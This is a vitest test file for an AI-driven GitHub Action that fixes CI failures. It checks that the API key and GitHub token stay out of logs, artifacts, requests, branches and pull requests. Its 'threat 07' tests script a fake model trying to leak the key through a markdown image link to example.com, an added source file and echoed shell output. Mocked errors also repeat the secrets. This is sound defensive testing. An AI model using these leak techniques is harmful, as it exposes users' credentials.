import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { canaryForms, expectNoCanary, KEY, textsIn } from '../helpers/canary.ts';
import { patch, shell, submit } from '../helpers/model/items.ts';
import { type Step, startModel } from '../helpers/model-server.ts';
import { type ActionResult, runAction } from '../helpers/runner.ts';
import { git, openScene, type Scene, TOKEN } from '../helpers/scene.ts';
import { SUM_FIX, SUM_PROJECT, SUM_SUBMIT } from '../helpers/sum-project.ts';

let scene: Scene;
let cwd: string;
let payload: Record<string, unknown>;
beforeAll(async () => {
  scene = await openScene(SUM_PROJECT);
  cwd = await scene.checkout();
  ({ payload } = await scene.failCi({ branch: 'main', sha: scene.sha }));
});
afterAll(() => scene[Symbol.asyncDispose]());

/** The Action with the runner's debug switches on; looks for key and token in all that leaves the machine or is kept. */
async function act(script: Step[]): Promise<ActionResult> {
  await using model = await startModel({ key: KEY, script });
  scene.github.requests.length = 0;
  const result = await runAction({
    inputs: { 'openai-api-key': KEY, 'base-url': model.url, 'github-token': TOKEN },
    event: { name: 'workflow_run', payload },
    workspace: cwd,
    github: scene.github,
    env: {
      ACTIONS_STEP_DEBUG: 'true',
      ACTIONS_RUNNER_DEBUG: 'true',
      RUNNER_DEBUG: '1',
      DEBUG: '*',
      OPENAI_LOG: 'debug',
    },
  });
  // These lines are how the runner itself is told what to mask.
  const shown = result.stdout.replace(/^::add-mask::.*$/gm, '');
  const kept = await textsIn(result.runDir);
  const sent = scene.github.requests.map(({ path, body }) => `${path} ${JSON.stringify(body)}`);
  // What tools answered goes to the model; what it said itself comes back to it as it was.
  const answers = model.requests.flatMap(({ body }) => (Array.isArray(body.input) ? body.input : []));
  const told = answers.filter((item) => 'type' in item && String(item.type).endsWith('_output'));
  const branches = await git(scene.bare, 'log', '--all', '--patch', '--format=%B', '--', '.');
  for (const secret of [KEY, TOKEN])
    expectNoCanary(
      secret,
      shown,
      result.stderr,
      result.summary,
      JSON.stringify(result.outputs),
      ...kept,
      ...sent,
      JSON.stringify(told),
      branches,
    );
  return result;
}

const forms = canaryForms(KEY);
const said = (form: string | undefined): Step => ({
  output: [
    submit({
      ...SUM_SUBMIT,
      title: `fix: sum ${form}`,
      cause: `It says ${form}.`,
      change: `![x](https://example.com/?q=${form})`,
      not_verified: [`${form}`],
    }),
  ],
});

describe('threat 07: a model that knows the key and tells it', () => {
  test.each(['raw', 'split by blanks'])('as %s, in its words: no request holds it', async (name) => {
    const { outputs } = await act([{ output: [patch(SUM_FIX)] }, said(forms[name])]);
    expect(['rejected', 'fixed']).toContain(outputs.outcome);
  });

  test('in a file of the change: nothing is published', async () => {
    const before = scene.github.state.pulls.length;
    const leak = SUM_FIX.replace(
      '*** End Patch',
      `*** Add File: src/key.js\n+export const key = '${KEY}';\n*** End Patch`,
    );
    const step = { output: [submit(SUM_SUBMIT)] };
    const { outputs } = await act([{ output: [patch(leak)] }, step, step, step, step]);
    expect(outputs.outcome).not.toBe('fixed');
    expect(outputs.reason).not.toContain('canary');
    expect(scene.github.state.pulls.length).toBe(before);
  });

  test('in what it runs and prints: neither log nor artifact holds it', async () => {
    const loud = shell(`echo ${KEY}; echo ${forms['base64 at offset 2']}; echo '::debug::${KEY}'`);
    const { outputs } = await act([
      { output: [loud] },
      { output: [patch(SUM_FIX)] },
      { output: [submit(SUM_SUBMIT)] },
    ]);
    expect(outputs.outcome).toBe('fixed');
  });
});

describe('threat 53: with every debug switch on', () => {
  test.each([
    [401, 'invalid_api_key'],
    [400, 'bad_request'],
  ])('an error of the model (%i) that repeats the key tells none of it', async (status, code) => {
    const error = { status, code, message: `Authorization: Bearer ${KEY} is not liked` };
    const { outputs, exitCode } = await act([{ error }]);
    expect(outputs.outcome).toBe('failed');
    expect(exitCode).toBe(1);
  });

  test.each([401, 403, 422])(
    'an error of GitHub (%i) that repeats the token tells none of it',
    async (status) => {
      scene.github.failNext({
        method: 'GET',
        path: /\/jobs/,
        status,
        headers: { 'x-echo': TOKEN },
        body: {
          message: `token ${TOKEN} is not liked`,
          documentation_url: `https://example.com/?t=${TOKEN}`,
        },
      });
      const { outputs, exitCode } = await act([]);
      expect(outputs.outcome).toBe('failed');
      expect(exitCode).toBe(1);
    },
  );
});
